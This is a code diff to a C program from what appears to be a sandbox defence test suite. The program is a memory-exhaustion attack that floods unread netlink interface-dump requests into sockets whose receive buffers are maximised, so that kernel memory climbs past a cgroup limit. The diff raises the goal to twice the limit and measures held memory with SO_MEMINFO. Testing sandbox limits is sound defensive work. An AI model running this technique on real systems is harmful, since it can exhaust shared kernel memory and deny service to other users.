@@ -1,5 +1,6 @@
-/* Asks the kernel again and again which network interfaces there are, and reads no answer.
- * goal: half as much memory again as the limit
+/* Asks the kernel again and again which network interfaces there are, and reads no answer, with buffers as large as they
+ * can be, so that few sockets hold much.
+ * goal: twice as much memory as the limit
  * stopped by: the launcher, which looks at the sandbox's sockets
  * first: cgroup-limits
  * second: -
@@ -9,8 +10,9 @@
 #include "attack.h"
 #include <linux/netlink.h>
 #include <linux/rtnetlink.h>
+#include <linux/sock_diag.h>
 int main(void) {
-    size_t wanted = figure("ATTACK_MEMORY") / 2 * 3, got = 0;
+    size_t wanted = figure("ATTACK_MEMORY") * 2, got = 0;
     struct { struct nlmsghdr head; struct rtgenmsg body; } ask = {
         { .nlmsg_len = NLMSG_LENGTH(sizeof(struct rtgenmsg)), .nlmsg_type = RTM_GETLINK, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP },
         { AF_UNSPEC },
@@ -25,10 +27,17 @@ int main(void) {
         if (pid == 0) {
             size_t mine = 0;
             for (int fd; (fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE)) >= 0 && got + mine < wanted;) {
-                int times = 0;
-                while (times < 100 && send(fd, &ask, ask.head.nlmsg_len, MSG_DONTWAIT) > 0) times++;
-                /* Each answer is some 700 bytes in a buffer of a kilobyte and a head of its own. */
-                mine += times * 1000;
+                int space = INT_MAX;
+                unsigned held[SK_MEMINFO_VARS] = { 0 }, before = 0;
+                setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &space, sizeof space);
+                /* Until it is full: what does not fit is thrown away, and no error. */
+                do {
+                    before = held[SK_MEMINFO_RMEM_ALLOC];
+                    socklen_t size = sizeof held;
+                    for (int i = 0; i < 100; i++) send(fd, &ask, ask.head.nlmsg_len, MSG_DONTWAIT);
+                    if (getsockopt(fd, SOL_SOCKET, SO_MEMINFO, held, &size)) break;
+                } while (held[SK_MEMINFO_RMEM_ALLOC] > before && got + mine + before < wanted);
+                mine += held[SK_MEMINFO_RMEM_ALLOC];
             }
             (void)!write(report[1], &mine, sizeof mine);
             for (;;) pause();
